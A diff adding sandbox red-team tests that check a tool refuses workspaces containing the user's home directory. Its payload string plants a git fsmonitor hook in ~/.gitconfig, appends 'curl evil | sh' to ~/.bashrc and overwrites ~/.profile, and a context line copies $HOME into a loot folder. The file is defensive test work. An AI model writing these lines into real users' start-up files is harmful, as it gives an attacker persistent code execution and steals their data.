@@ -2738,3 +2738,78 @@ cp -r "$HOME" ./loot 2>/dev/null; true
     t.join()
     check(ctx.secret not in res.stdout + res.stderr,
           "a store written on the host while the command ran was readable inside")
+
+
+# ---- the caller's home inside the workspace (rt3/15) -----------------------
+
+HOME_PLANT = r"""
+printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$PWN" >> "$HOME/.gitconfig" 2>/dev/null
+echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
+mkdir -p "$HOME" 2>/dev/null && echo 'planted' > "$HOME/.profile" 2>/dev/null
+echo DONE
+"""
+
+
+def _home_case(ctx, name, home_rel, make_home):
+    """A workspace holding the home the command would run with: refused before
+    anything runs, and nothing under that home changes."""
+    ws = ctx.workspace(name, where="vis")
+    home = os.path.join(ws, home_rel)
+    if make_home:
+        os.makedirs(home)
+        with open(os.path.join(home, ".bashrc"), "w") as f:
+            f.write("# rc\n")
+    ctx.allow_error = True  # the refusal is the expected answer
+    res = ctx.run(ws, HOME_PLANT % ctx.pwn, home=home)
+    check(res.outcome != "committed" and res.rc != 0,
+          "a workspace containing $HOME was used: %s" % res.describe())
+    check("contains the home directory" in (res.get("error") or "") + res.raw_err.decode("utf-8", "replace"),
+          "refused, but not for the home inside it: %s" % res.describe())
+    bashrc = os.path.join(home, ".bashrc")
+    check(not make_home or open(bashrc).read() == "# rc\n", "~/.bashrc inside the workspace changed")
+    check(not os.path.exists(os.path.join(home, ".gitconfig")), "~/.gitconfig appeared in the workspace")
+    check(make_home or not os.path.exists(home), "the missing home was created in the workspace")
+
+
+@attack("home-inside-workspace")
+def home_inside_workspace(ctx):
+    """HOME=WS/.home (containers, CI): the command's ~/.gitconfig (core.fsmonitor)
+    and ~/.bashrc would be committed and run by the host."""
+    _home_case(ctx, "home-in-ws", ".home", True)
+
+
+@attack("home-missing-inside-workspace")
+def home_missing_inside_workspace(ctx):
+    """HOME names a directory not there yet, inside the workspace: the command
+    could create it (and its start-up files) and have it committed."""
+    _home_case(ctx, "home-missing-in-ws", ".home/user", False)
+
+
+@attack("home-inside-workspace-via-symlink")
+def home_inside_workspace_via_symlink(ctx):
+    """HOME is a symlink outside the workspace whose target is inside it:
+    compared physically, not by name."""
+    ws = ctx.workspace("home-link-ws", where="vis")
+    os.makedirs(os.path.join(ws, "h"))
+    link = os.path.join(ctx.vis_root, "home-link-" + ctx.mark)
+    os.symlink(os.path.join(ws, "h"), link)
+    ctx.on_cleanup(lambda: os.unlink(link))
+    ctx.allow_error = True  # the refusal is the expected answer
+    res = ctx.run(ws, HOME_PLANT % ctx.pwn, home=link)
+    check(res.outcome != "committed" and res.rc != 0,
+          "a workspace containing $HOME (through a symlink) was used: %s" % res.describe())
+    check(not os.path.exists(os.path.join(ws, "h", ".gitconfig")), "~/.gitconfig appeared in the workspace")
+
+
+@attack("home-beside-workspace-allowed")
+def home_beside_workspace_allowed(ctx):
+    """Control: a home beside the workspace, or one that contains it (the usual
+    ~/project), is no reason to refuse it."""
+    parent = os.path.join(ctx.vis_root, "home-beside-" + ctx.mark)
+    os.makedirs(os.path.join(parent, "home"))
+    ctx.on_cleanup(lambda: rmtree_force(parent))
+    ws = ctx.workspace("proj", where="vis", parent=parent)
+    for home in (os.path.join(parent, "home"), parent):
+        res = ctx.run(ws, "echo ok > out.txt\necho DONE\n", home=home)
+        check(res.outcome == "committed" and res.rc == 0,
+              "a workspace beside (or under) HOME=%s was refused: %s" % (home, res.describe()))
